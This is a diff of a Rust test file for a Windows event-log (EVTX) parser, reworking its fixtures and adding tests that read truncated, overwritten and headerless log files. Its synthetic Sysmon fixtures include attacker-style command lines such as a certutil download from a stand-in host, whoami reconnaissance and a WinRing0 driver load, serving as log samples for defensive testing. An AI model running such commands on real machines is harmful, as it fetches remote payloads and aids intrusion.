@@ -18,6 +18,7 @@ use std::path::{Path, PathBuf};
 
 use evtx_writer::{CHUNK_BYTES, Data, Event, FILE_HEADER_BYTES, Value, dirty, file, kind};
 use model::Record;
+use sources::{ErrorCode, Place};
 
 const SYSMON: Event = Event {
     record: 0,
@@ -82,7 +83,11 @@ fn process_create(record: u64, image: &str, command_line: &str) -> Event {
 fn sysmon_process() -> Vec<u8> {
     file(&[
         process_create(571_146, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all"),
-        process_create(571_147, "C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://192.0.2.7/a b"),
+        process_create(
+            571_147,
+            "C:\\Windows\\System32\\certutil.exe",
+            "certutil -urlcache -f http://192.0.2.7/a b",
+        ),
         process_create(571_148, "C:\\業務\\集計.exe", "\"C:\\業務\\集計.exe\" 令和8年度 \u{20bb7}野家"),
     ])
 }
@@ -157,9 +162,17 @@ fn unnamed() -> Vec<u8> {
     };
     let texts = |texts: &[&str]| Data::Unnamed(texts.iter().map(|text| Value::text(text)).collect());
     file(&[
-        Event { record: 10, data: texts(&["WinRing0", "", "C:\\Temp\\w.sys", "demand start"]), ..old.clone() },
+        Event {
+            record: 10,
+            data: texts(&["WinRing0", "", "C:\\Temp\\w.sys", "demand start"]),
+            ..old.clone()
+        },
         Event { record: 11, data: texts(&["one only"]), ..old.clone() },
-        Event { record: 12, data: Data::Unnamed(vec![Value::raw(kind::BINARY, [0xDE, 0xAD])]), ..old.clone() },
+        Event {
+            record: 12,
+            data: Data::Unnamed(vec![Value::raw(kind::BINARY, [0xDE, 0xAD])]),
+            ..old.clone()
+        },
         Event { record: 13, data: Data::None, ..old },
     ])
 }
@@ -219,9 +232,12 @@ fn arrays() -> Vec<u8> {
         ("UInt64s", numbers(kind::UINT64, 8)),
         ("Hex32s", numbers(kind::HEX32, 4)),
         ("Hex64s", numbers(kind::HEX64, 8)),
-        ("Bools", numbers(kind::BOOL, 4)),
+        ("Bools", Value::array(&[1u32, 0, 1].map(|flag| Value::raw(kind::BOOL, flag.to_le_bytes())))),
         ("Guids", Value::array(&vec![Value::guid("12345678-9abc-def0-1234-56789abcdef0"); 2])),
-        ("FileTimes", Value::array(&[Value::filetime("2026-01-01T00:00:00Z"), Value::filetime("2026-01-02T00:00:00Z")])),
+        (
+            "FileTimes",
+            Value::array(&[Value::filetime("2026-01-01T00:00:00Z"), Value::filetime("2026-01-02T00:00:00Z")]),
+        ),
     ];
     file(&[Event { record: 1, event_id: 43, data: Data::Named(fields), ..Event::default() }])
 }
@@ -237,28 +253,15 @@ fn fixed() -> Vec<u8> {
 
 /// More than one chunk.
 fn many() -> Vec<Event> {
-    let event = |record: u64| process_create(record, "C:\\Windows\\System32\\cmd.exe", &format!("cmd.exe /c echo {record}"));
+    let event = |record: u64| {
+        process_create(record, "C:\\Windows\\System32\\cmd.exe", &format!("cmd.exe /c echo {record}"))
+    };
     (1..=150).map(event).collect()
-}
-
-/// The file ends within its second chunk, and its header says that it was copied while in use.
-fn cut_short() -> Vec<u8> {
-    let mut bytes = dirty(file(&many()));
-    bytes.truncate(FILE_HEADER_BYTES + CHUNK_BYTES + 9000);
-    bytes
-}
-
-/// A record in the middle of the second chunk is overwritten.
-fn overwritten() -> Vec<u8> {
-    let mut bytes = file(&many()[..90]);
-    let chunk = FILE_HEADER_BYTES + CHUNK_BYTES;
-    bytes[chunk + 8000..chunk + 8600].fill(0xAA);
-    bytes
 }
 
 type Maker = fn() -> Vec<u8>;
 
-const FILES: [(&str, Maker); 9] = [
+const FILES: [(&str, Maker); 7] = [
     ("sysmon_process", sysmon_process),
     ("security_logon", security_logon),
     ("log_cleared", log_cleared),
@@ -266,8 +269,6 @@ const FILES: [(&str, Maker); 9] = [
     ("every_value", every_value),
     ("arrays", arrays),
     ("fixed", fixed),
-    ("cut_short", cut_short),
-    ("overwritten", overwritten),
 ];
 
 fn folder() -> PathBuf {
@@ -299,40 +300,39 @@ fn the_files_decode_to_the_golden_records() {
             match (expected.next(), found.next()) {
                 (None, None) => break,
                 (before, now) if before == now => {}
-                (before, now) => differences.push(format!("{name}:\n  expected {before:?}\n  found    {now:?}")),
+                (before, now) => {
+                    differences.push(format!("{name}:\n  expected {before:?}\n  found    {now:?}"))
+                }
             }
         }
     }
     assert!(differences.is_empty(), "{}", differences.join("\n"));
 }
 
-/// The crate does not read on behind a damaged record; everything else it must read as we do.
 #[test]
 fn the_evtx_crate_reads_the_same() {
     for (name, make) in FILES {
         let bytes = make();
         let (records, errors) = support::read(&bytes, &support::options());
+        assert_eq!(errors, [], "{name}");
         let ours: BTreeMap<u64, Record> = records.into_iter().collect();
         let mut parser = evtx::EvtxParser::from_buffer(bytes).unwrap();
         let mut seen = 0;
         for record in parser.records_json_value() {
-            let Ok(record) = record else {
-                assert!(!errors.is_empty(), "{name}: {record:?}");
-                continue;
-            };
+            let record = record.unwrap();
             seen += 1;
             let own = &ours[&record.event_record_id];
             for (field, theirs) in evtx_same::expected(&record.data) {
+                // 4688 calls the creating process so; Sigma's name for it is another.
+                if own.log_source.service == "security" && field == "ProcessId" {
+                    continue;
+                }
                 let own = own.get(&format!("Data.{field}")).or_else(|| own.get(&field));
-                assert!(
-                    evtx_same::same(own, theirs) || field == "ProcessId",
-                    "{name} {}: {field}: {own:?} {theirs}",
-                    record.event_record_id
-                );
+                let same = evtx_same::same(own, theirs);
+                assert!(same, "{name} {}: {field}: {own:?} {theirs}", record.event_record_id);
             }
         }
-        assert!(seen == ours.len() || !errors.is_empty(), "{name}: {seen} of {}", ours.len());
-        assert!(seen > 0, "{name}");
+        assert_eq!(seen, ours.len(), "{name}");
     }
 }
 
@@ -340,6 +340,79 @@ fn the_evtx_crate_reads_the_same() {
 fn a_whole_file_has_no_errors_and_every_record() {
     let (records, errors) = support::read(&file(&many()), &support::options());
     assert_eq!((records.len(), errors), (150, vec![]));
+}
+
+/// What is left of a damaged copy of [`many`]: the numbers of the records, which must say what they said before, and
+/// what was reported.
+fn left_of(bytes: &[u8]) -> (Vec<u64>, Vec<(Option<Place>, ErrorCode)>) {
+    let (whole, _) = support::read(&file(&many()), &support::options());
+    let whole: BTreeMap<u64, Record> = whole.into_iter().collect();
+    let (records, errors) = support::read(bytes, &support::options());
+    for (number, record) in &records {
+        assert_eq!(record, &whole[number], "record {number}");
+    }
+    let errors = errors.into_iter().map(|error| (error.place, error.code)).collect();
+    (records.into_iter().map(|(number, _)| number).collect(), errors)
+}
+
+/// Where the records of a whole file lie.
+fn places(bytes: &[u8]) -> BTreeMap<u64, usize> {
+    let signature = memchr::memmem::find_iter(bytes, b"\x2a\x2a\0\0");
+    let number = |at: usize| u64::from_le_bytes(*bytes[at + 8..].first_chunk().unwrap());
+    signature.map(|at| (number(at), at)).collect()
+}
+
+#[test]
+fn a_copy_made_while_the_log_was_in_use_is_read_whole() {
+    let (numbers, errors) = left_of(&dirty(file(&many())));
+    assert_eq!((numbers.len(), errors), (150, vec![]));
+}
+
+#[test]
+fn a_file_that_ends_within_a_chunk_is_read_up_to_its_last_whole_record() {
+    let mut bytes = file(&many());
+    let end = places(&bytes)[&100] + 50;
+    bytes.truncate(end);
+    let (numbers, errors) = left_of(&bytes);
+    assert_eq!(numbers, (1..100).collect::<Vec<u64>>());
+    assert_eq!(errors[0], (Some(Place::Offset(end as u64)), ErrorCode::Truncated));
+    assert!(errors[1..].iter().all(|(_, code)| *code == ErrorCode::DamagedRecord), "{errors:?}");
+}
+
+#[test]
+fn an_overwritten_record_takes_no_other_with_it() {
+    let mut bytes = file(&many());
+    let places = places(&bytes);
+    bytes[places[&40] + 4..places[&41]].fill(0xAA);
+    let (numbers, errors) = left_of(&bytes);
+    assert_eq!(numbers, (1..=150).filter(|number| *number != 40).collect::<Vec<u64>>());
+    assert_eq!(
+        errors,
+        [
+            (Some(Place::Offset(FILE_HEADER_BYTES as u64)), ErrorCode::DamagedPart),
+            (Some(Place::Offset(places[&40] as u64)), ErrorCode::DamagedRecord)
+        ]
+    );
+}
+
+#[test]
+fn a_chunk_of_zeros_is_passed_over() {
+    let mut bytes = file(&many());
+    let chunk = FILE_HEADER_BYTES + CHUNK_BYTES..FILE_HEADER_BYTES + 2 * CHUNK_BYTES;
+    let lost: Vec<u64> =
+        places(&bytes).into_iter().filter(|(_, at)| chunk.contains(at)).map(|(number, _)| number).collect();
+    bytes[chunk].fill(0);
+    let (numbers, _) = left_of(&bytes);
+    assert!(!lost.is_empty());
+    assert_eq!(numbers, (1..=150).filter(|number| !lost.contains(number)).collect::<Vec<u64>>());
+}
+
+#[test]
+fn a_file_without_its_header_is_read_by_its_chunks() {
+    let bytes = file(&many());
+    let (numbers, errors) = left_of(&bytes[FILE_HEADER_BYTES..]);
+    assert_eq!(numbers.len(), 150);
+    assert_eq!(errors, [(Some(Place::Offset(0)), ErrorCode::DamagedPart)]);
 }
 
 /// The digest of a record is of its bytes: the spans of the framer are exactly the records of the writer.
@@ -366,7 +439,7 @@ fn records_are_framed_from_their_signature_to_their_second_size() {
 /// The small files lie beside their records, for people who want to see one and for the fuzzer to begin with.
 #[test]
 fn the_writer_writes_the_committed_files() {
-    for (name, make) in FILES.into_iter().take(7) {
+    for (name, make) in FILES {
         let path = folder().join(format!("{name}.evtx"));
         if std::env::var_os("YAGURA_BLESS").is_some() {
             fs::write(&path, without_end(make())).unwrap();
